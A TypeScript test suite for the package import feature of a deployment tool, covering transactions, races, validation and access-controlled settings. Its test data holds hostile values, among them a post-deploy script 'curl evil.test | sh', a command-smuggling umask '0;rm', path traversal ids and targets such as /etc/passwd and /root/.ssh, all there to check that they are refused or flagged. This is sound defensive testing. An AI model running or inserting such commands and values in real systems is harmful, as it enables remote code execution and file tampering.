import t from 'tap'
import { readFileSync, readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { importPackage } from '../../../lib/carry/transfer/import.js'
import type { TransferNeeds } from '../../../lib/carry/transfer/needs.js'
import type { LogSourceRecord } from '../../../lib/carry/transfer/package.js'
import type { Store } from '../../../lib/core/store/database.js'
import {
  findDeployment,
  listDeployments,
  placeDeployment,
  updateDeployment
} from '../../../lib/core/store/tables/deployments.js'
import { listProjects } from '../../../lib/core/store/tables/projects.js'
import { exampleFields, wrongRecords } from '../../support/project-examples.js'
import { matching } from '../../support/sentences/matching.js'
import { openImport, overwrite, request } from '../../support/import-stage.js'
import { snapshot } from '../../support/tree.js'
import { zipOf } from '../../support/zip.js'

const project = { id: 'proj_a', name: 'A', deployPath: '/srv/svc-test/a', token: 'token-of-a' }
const deployment = { id: 'dep_a', projectId: 'proj_a', status: 'success', startTime: '2026-01-31T12:00:00.000Z' }

t.test('keeps records and files unchanged if the transaction of an import fails', async t => {
  const { store, home, notes, take } = await openImport(t)
  const artifact = await zipOf({ 'a.txt': 'a' })
  const files = {
    'manifest.json': { schemaVersion: 1, artifacts: [{ projectId: 'proj_a', deployId: 'dep_a' }] },
    'projects.json': [project],
    'deployments.json': [deployment],
    'outputs/dep_a.log': '2026-01-31T12:00:00.000Z one\n',
    'artifacts/proj_a.zip': artifact
  }
  await take(files)
  t.strictSame(readdirSync(home.deployments).sort(), ['dep_a.log', 'dep_a.zip'])
  t.equal(findDeployment(store, 'dep_a')?.hasArtifact, true)
  t.strictSame(
    notes.splice(0),
    ['dep_a: ', 'settled: dep_a.log dep_a.zip'],
    'noted before the first file, until the records are durable'
  )
  const before = snapshot(home.deployments)
  const broken: Store = { ...store, write: () => Promise.reject(new Error('the disk is full')) }
  const other = {
    ...files,
    'outputs/dep_a.log': '2026-01-31T12:00:00.000Z two\n',
    'deployments.json': [deployment, { ...deployment, id: 'dep_b' }]
  }
  await t.rejects(take(other, overwrite, { store: broken }), { message: 'the disk is full' })
  t.strictSame(snapshot(home.deployments), before)
  t.strictSame(
    notes,
    ['dep_b: dep_a.log dep_a.zip', 'settled: dep_a.log dep_a.zip'],
    'an existing record needs no note'
  )
  t.strictSame(readdirSync(home.tmp), [])
  t.equal(listDeployments(store, { limit: 10 }).length, 1)
  await take(other, overwrite)
  t.match(readFileSync(join(home.deployments, 'dep_a.log'), 'utf8'), 'two')
})

t.test('takes what scripts changed, and refuses paths and ids that svc would not write', async t => {
  const { home, take } = await openImport(t)
  const sha256 = 'a'.repeat(64)
  const entry = { size: 1, mode: 0o100644, sha256, mtimeMs: 1 }
  const good = [
    { path: 'a', ...entry, ino: 1, kept: 'scripted', before: { ...entry, kept: 'archive:dep_a' } },
    { removed: 'b', before: entry, isEarly: true }
  ]
  const textOf = (lines: object[]): string => lines.map(line => `${JSON.stringify(line)}\n`).join('')
  const files = (text: string) => ({
    'projects.json': [project],
    'deployments.json': [deployment],
    'manifests/dep_a.scripted': text
  })
  for (const line of [
    { path: '../a', ...entry },
    { removed: '/etc/passwd' },
    { path: 'a', ...entry, kept: 'archive:../x' },
    { removed: 'a', before: { ...entry, kept: 'archive:../x' } },
    { path: 'a', ...entry, sha256: 'x' },
    { made: 'a' }
  ])
    await t.rejects(take(files(textOf([line]))), { code: 'broken_package', field: 'manifests/dep_a.scripted' })
  await t.rejects(take(files('{')), { code: 'broken_package' })
  t.strictSame(readdirSync(home.deployments), [])
  await take(files(textOf(good)))
  t.equal(readFileSync(join(home.deployments, 'dep_a.scripted'), 'utf8'), textOf(good))
  await take({ 'projects.json': [project], 'deployments.json': [{ ...deployment, message: 'x' }] }, overwrite)
  t.notOk(readdirSync(home.deployments).includes('dep_a.scripted'), 'like the manifest')
})

t.test('writes nothing if records change during the import', async t => {
  const { store, take, home } = await openImport(t)
  const racing: Store = {
    ...store,
    write: async work => {
      await take({ 'projects.json': [{ ...project, name: 'first' }] })
      return store.write(work)
    }
  }
  const second = take(
    { 'projects.json': [{ ...project, name: 'second' }], 'deployments.json': [deployment] },
    request,
    { store: racing }
  )
  await t.rejects(second, { code: 'changed_meanwhile' })
  t.match(listProjects(store), [{ name: 'first' }])
  t.strictSame(readdirSync(home.deployments), [])
})

t.test('of two imports of one package at once, one is refused and takes no files of the other away', async t => {
  const { take, home } = await openImport(t)
  const files = {
    'manifest.json': { schemaVersion: 1, artifacts: [{ projectId: 'proj_a', deployId: 'dep_a' }] },
    'projects.json': [project],
    'deployments.json': [deployment],
    'outputs/dep_a.log': '2026-01-31T12:00:00.000Z one\n',
    'artifacts/proj_a.zip': await zipOf({ 'a.txt': 'a' })
  }
  const ends = await Promise.allSettled([take(files), take(files)])
  t.match(
    ends.sort((a, b) => a.status.localeCompare(b.status)),
    [{ status: 'fulfilled' }, { status: 'rejected', reason: { code: 'changed_meanwhile' } }]
  )
  t.strictSame(readdirSync(home.deployments).sort(), ['dep_a.log', 'dep_a.zip'])
  t.strictSame(readdirSync(home.tmp), [])
})

t.test('keeps the order of lists', async t => {
  const { store, take } = await openImport(t)
  const ids = ['dep_3', 'dep_2', 'dep_1']
  await take({
    'projects.json': [project, { ...project, id: 'proj_b', deployPath: '/srv/svc-test/b', token: 'token-of-b' }],
    'deployments.json': ids.map(id => ({ ...deployment, id }))
  })
  t.strictSame(
    listDeployments(store, { limit: 10 }).map(({ id }) => id),
    ids
  )
  t.strictSame(
    listProjects(store).map(({ id }) => id),
    ['proj_a', 'proj_b']
  )
})

t.test('imports log sources, or ignores them with a note if they are not supported', async t => {
  const rows = new Map<string, LogSourceRecord>()
  const logSources: TransferNeeds['logSources'] = {
    list: (_, projectId) => [...rows.values()].filter(row => row.projectId === projectId),
    find: (_, id) => rows.get(id),
    insert: (_, row) => void rows.set(row.id, row),
    replace: (_, row) => void rows.set(row.id, row)
  }
  const { take } = await openImport(t)
  const files = {
    'projects.json': [project],
    'log-sources.json': [{ id: 'lsrc_a', projectId: 'proj_a', filePath: '/var/log/a.log' }]
  }
  const without = await take(files)
  t.match(without, { logSources: { created: [] }, notes: [/Log sources were ignored/] })
  const result = await take(files, request, { logSources })
  t.strictSame(result.logSources, { created: ['lsrc_a'], replaced: [], skipped: [] })
  t.match(rows.get('lsrc_a'), { label: '/var/log/a.log', kind: 'plain', sortOrder: 0 })
  t.strictSame((await take(files, overwrite, { logSources })).logSources.replaced, ['lsrc_a'])
})

t.test('reports an artifact that cannot be restored and continues', async t => {
  const { take, needs } = await openImport(t)
  const deployments = { ...needs.deployments, restore: () => Promise.reject(new Error('no space')) }
  const result = await take({ 'projects.json': [project], 'artifacts/proj_a.zip': await zipOf({ a: 'a' }) }, request, {
    deployments
  })
  t.strictSame(result.artifacts, {
    created: [],
    replaced: [],
    skipped: ['proj_a'],
    failed: [{ id: 'proj_a', deployId: null, error: 'no space' }]
  })
  t.strictSame(result.projects.created, ['proj_a'])
})

t.test('restores in the next import what an interrupted one did not, and nothing else', async t => {
  const { store, take, needs, restored } = await openImport(t)
  const files = {
    'manifest.json': { schemaVersion: 1, artifacts: [{ projectId: 'proj_a', deployId: 'dep_a' }] },
    'projects.json': [project],
    'deployments.json': [deployment],
    'artifacts/proj_a.zip': await zipOf({ a: 'a' })
  }
  const killed = { ...needs.deployments, restore: () => Promise.reject(new Error('killed')) }
  await take(files, request, { deployments: killed })
  t.match((await take(files, { ...request, restoreArtifacts: false })).artifacts, { created: [], skipped: ['proj_a'] })
  t.match((await take(files, { ...request, dryRun: true })).notes, [/The files of "A" \(proj_a\) were missing/])
  t.strictSame(restored, [])
  const again = await take(files)
  t.match(again, { projects: { skipped: ['proj_a'] }, artifacts: { created: ['proj_a'], skipped: [], failed: [] } })
  t.strictSame(restored, ['proj_a'])
  await store.write(tx => placeDeployment(tx, 'dep_a'))
  t.match(await take(files), { artifacts: { created: [], skipped: ['proj_a'] }, notes: [] })
  t.strictSame(restored, ['proj_a'])
})

t.test('imports settings that control access only on request', async t => {
  const settings = {
    trusted_proxies: '0.0.0.0/0',
    allowed_ips: '',
    webhook_url: 'https://evil.test/',
    webhook_secret: 'theirs',
    global_deploy_token: 'theirs-123456',
    allow_client_scripts: 'true',
    terminal_enabled: 'true',
    script_timeout: '77',
    keep_archives: '3'
  }
  const { take, needs } = await openImport(t)
  const before = needs.settings.all()
  const result = await take({ 'settings.json': { ...settings, no_such_setting: 'x' } }, overwrite)
  t.strictSame(needs.settings.all(), { ...before, script_timeout: '77', keep_archives: '3' })
  t.strictSame(result.settings.created, ['keep_archives', 'script_timeout'])
  t.strictSame(result.settings.skipped.sort(), [
    'allow_client_scripts',
    'allowed_ips',
    'global_deploy_token',
    'terminal_enabled',
    'trusted_proxies',
    'webhook_secret',
    'webhook_url'
  ])
  t.match(result.notes, [/"allowed_ips".*control access.*--with-access-settings/, /"no_such_setting" was ignored/])

  await take({ 'settings.json': { global_deploy_token: 'short' } })
  await t.rejects(take({ 'settings.json': { global_deploy_token: 'short' } }, { ...request, accessSettings: true }), {
    code: 'invalid_setting'
  })
  const all = await take({ 'settings.json': settings }, { ...overwrite, accessSettings: true })
  t.match(needs.settings.all(), settings)
  t.strictSame(all.settings.skipped, [])
  t.strictSame(all.notes, [])
})

t.test('lists every path, script and setting of a package in a dry run', async t => {
  const { take } = await openImport(t)
  const shop = {
    ...project,
    name: 'Shop',
    preDeployScript: 'echo pre',
    postDeployScript: 'curl evil.test | sh\ntrue',
    postDeployAsync: true,
    allowClientScripts: true,
    allowedEnv: ['APP_*']
  }
  const files = {
    'settings.json': { script_timeout: '77', webhook_secret: 'a-secret-of-theirs', webhook_url: 'https://evil.test/' },
    'projects.json': [shop, { ...project, id: 'proj_b', deployPath: '/srv/svc-test/b', token: '' }],
    'artifacts/proj_a.zip': await zipOf({ a: 'a' })
  }
  const dry = { ...request, dryRun: true, accessSettings: true }
  const { brings } = await take(files, dry)
  t.match(brings, {
    settings: [
      { key: 'webhook_url', value: 'https://evil.test/' },
      { key: 'webhook_secret', value: null },
      { key: 'script_timeout', value: '77' }
    ],
    projects: [
      {
        id: 'proj_a',
        name: 'Shop',
        deployPath: '/srv/svc-test/a',
        preDeployScript: 'echo pre',
        postDeployScript: shop.postDeployScript,
        allowClientScripts: true,
        allowedEnv: ['APP_*'],
        hasArtifact: true
      },
      { id: 'proj_b', deployPath: '/srv/svc-test/b', preDeployScript: '', postDeployScript: '', hasArtifact: false }
    ],
    logSources: []
  })
  t.notMatch(JSON.stringify(brings), /a-secret-of-theirs|token-of-a/)
  await take(files)
  t.strictSame((await take(files, dry)).brings.projects, [], 'skipped records are not listed')
})

t.test('applies the rules of the API to a package', async t => {
  const { take, store } = await openImport(t)
  for (const [file, record] of Object.entries({
    'token, 7 characters': { token: 'token-a' },
    'token, spaces': { token: 'token of a' },
    'token, too long': { token: 'a'.repeat(1025) },
    'deployPath, of the system': { deployPath: '/etc/cron.d' },
    'deployPath, a key': { deployPath: '/root/.ssh' },
    'deployPath, two lines': { deployPath: '/srv/a\nb' },
    'pm2AppName, two lines': { pm2AppName: 'a\nb' },
    'allowedEnv, all': { allowedEnv: ['*'] },
    'allowedEnv, denied': { allowedEnv: ['LD_PRELOAD'] },
    'allowedEnv, too many': { allowedEnv: Array.from({ length: 101 }, (_, index) => `A${index}`) }
  })) {
    const [, field = ''] = /^(\w+)/.exec(file) ?? []
    await t.rejects(
      take({ 'projects.json': [{ ...project, ...record }] }),
      { kind: 'invalid', message: new RegExp(`projects\\.json\\[0\\]\\.${field}`) },
      file
    )
  }
  const log = { id: 'lsrc_a', projectId: 'proj_a', filePath: 'relative.log' }
  await t.rejects(take({ 'projects.json': [project], 'log-sources.json': [log] }), {
    message: /log-sources\.json\[0\]\.filePath/
  })
  await take({
    'projects.json': [
      { ...project, name: 'Shop\n✓ success', env: 'a\u202eb', allowedEnv: ['APP_*', 'APP_*'], description: 'One\nTwo' }
    ],
    'tags.json': [{ id: 'tag_a', name: 'a\nb' }],
    'deployments.json': [{ ...deployment, projectName: 'x\ny', message: 'm\nn' }]
  })
  t.match(listProjects(store), [
    { name: 'Shop\\n✓ success', env: 'a\\u202eb', allowedEnv: ['APP_*'], description: 'One\nTwo' }
  ])
  t.match(findDeployment(store, 'dep_a'), { projectName: 'x\\ny', message: 'm\\nn' })
})

t.test('keeps the live deployment live and its archive when its record is replaced', async t => {
  const { store, home, take } = await openImport(t)
  const files = { 'projects.json': [project], 'deployments.json': [{ ...deployment, placed: 7, hasArtifact: false }] }
  await take(files)
  t.equal(findDeployment(store, 'dep_a')?.placed, null, 'the number of another machine says nothing here')
  await store.write(tx => {
    placeDeployment(tx, 'dep_a')
    updateDeployment(tx, 'dep_a', { hasArtifact: true, archiveBytes: 3, archiveSha256: 'abc' })
  })
  writeFileSync(join(home.deployments, 'dep_a.zip'), 'zip')
  await take(files, overwrite)
  t.match(findDeployment(store, 'dep_a'), { placed: 1, hasArtifact: true, archiveBytes: 3, archiveSha256: 'abc' })
  t.equal(readFileSync(join(home.deployments, 'dep_a.zip'), 'utf8'), 'zip')
})

t.test('imports the provenance of a deployment and refuses an invalid one', async t => {
  const { store, take } = await openImport(t)
  const given = (provenance: unknown) => ({
    'projects.json': [project],
    'deployments.json': [{ ...deployment, provenance }]
  })
  const wrong: Array<[unknown, RegExp]> = [
    ['main', /"deployments\.json\[0\]\.provenance" is "main": expected an object/],
    [{ commit: 'main' }, /\.provenance\.commit" is not valid: expected 40 or 64/],
    [{ ci: { system: 'x', url: 'javascript:1' } }, /\.provenance\.ci\.url/]
  ]
  for (const [provenance, message] of wrong) await t.rejects(take(given(provenance)), { message })
  await take(given({ branch: 'main', subject: 'a\nb', repository: 'https://u:hunter2@git.test/x', more: 1 }))
  t.match(findDeployment(store, 'dep_a')?.provenance, {
    source: 'cli',
    branch: 'main',
    subject: 'a\\nb',
    repository: 'https://git.test/x',
    ci: null
  })
})

t.test('imports a package of another program of the family', async t => {
  const { store, needs, directory } = await openImport(t)
  const path = join(directory, 'older.zip')
  const at = '2025-01-01T00:00:00.000Z'
  const shop = {
    id: 'p1',
    name: 'Shop',
    deploy_path: '/srv/svc-test/older',
    pre_deploy_script: null,
    post_deploy_script: 'echo post',
    post_deploy_async: 1,
    allow_cli_hooks: 0,
    token: 'token-of-the-shop',
    tag_ids: '[]',
    created_at: at
  }
  const deployment = { id: 'd1', project_id: 'p1', status: 'success', start_time: at, end_time: at, output: 'done' }
  const settings = [
    { key: 'artifact_keep_n', value: '5' },
    { key: 'script_timeout', value: 'never' },
    { key: 'theme', value: 'dark' }
  ]
  writeFileSync(
    path,
    await zipOf({
      'older-export-2025/manifest.json': '{"schemaVersion":1}',
      'older-export-2025/settings.json': JSON.stringify(settings),
      'older-export-2025/projects.json': JSON.stringify([shop]),
      'older-export-2025/deployments.json': JSON.stringify([deployment])
    })
  )
  const { notes, projects, deployments } = await importPackage(needs, path, request)
  t.same([projects.created, deployments.created], [['p1'], ['d1']])
  t.match(listProjects(store), [
    { name: 'Shop', deployPath: '/srv/svc-test/older', postDeployAsync: true, allowClientScripts: false, createdAt: at }
  ])
  t.equal(needs.settings.all()['keep_archives'], '5')
  t.match(notes.join('\n'), /"script_timeout" was left out: .*\n.*"theme" was ignored/)
})

t.test('refuses hostile entries and records of a package', async t => {
  const { take, store } = await openImport(t)
  const records: Array<[field: string, record: object]> = [
    ['umask', { umask: '0;rm' }],
    ['umask', { umask: '999' }],
    ['runAs', { runAs: '--help' }],
    ['runAs', { runAs: 'root' }],
    ['runAs', { runAs: 'no-such-user-here' }],
    ['id', { id: '../../x' }],
    ...wrongRecords(exampleFields.filter(field => field !== 'name')),
    ['name', { name: 'x'.repeat(300) }],
    ['createdAt', { createdAt: 'yesterday' }],
    ['policy', { policy: { gate: { after: [{ command: 7 }] } } }],
    ['postDeployAsync', { postDeployAsync: 2 }]
  ]
  for (const [field, record] of records)
    await t.rejects(
      take({ 'projects.json': [{ ...project, ...record }] }),
      { message: matching(`projects.json[0].${field}`) },
      JSON.stringify(record).slice(0, 60)
    )
  const label = { id: 'cat_a', name: 'A' }
  await t.rejects(take({ 'categories.json': [{ ...label, color: 'red; x' }] }), {
    message: /categories\.json\[0\]\.color/
  })
  await t.rejects(take({ 'Projects.json': [], 'projects.json': [project] }), { message: /same name as/ })
  t.same(listProjects(store), [])
})

t.test('a package keeps the header values of checks that exist here, and asks for the others', async t => {
  const { take, store, headers } = await openImport(t)
  const gate = (value: string) => ({ after: [{ http: 'http://127.0.0.1/', header: { Authorization: value } }] })
  const withHeader = (value: string) => ({ 'projects.json': [{ ...project, policy: { gate: gate(value) } }] })
  const asked = await take(withHeader('***'))
  t.match(asked.notes, [/"Shop"|needs the headers Authorization/])
  await take(withHeader('Bearer of-the-package'), overwrite)
  const stored = () => listProjects(store)[0]?.policy ?? {}
  t.notMatch(JSON.stringify(stored()), 'of-the-package', 'encrypted')
  const kept = await take(withHeader('***'), overwrite)
  t.same(
    kept.notes.filter(note => note.includes('headers')),
    []
  )
  t.match(JSON.stringify(await headers.open('proj_a', stored())), 'Bearer of-the-package')
})
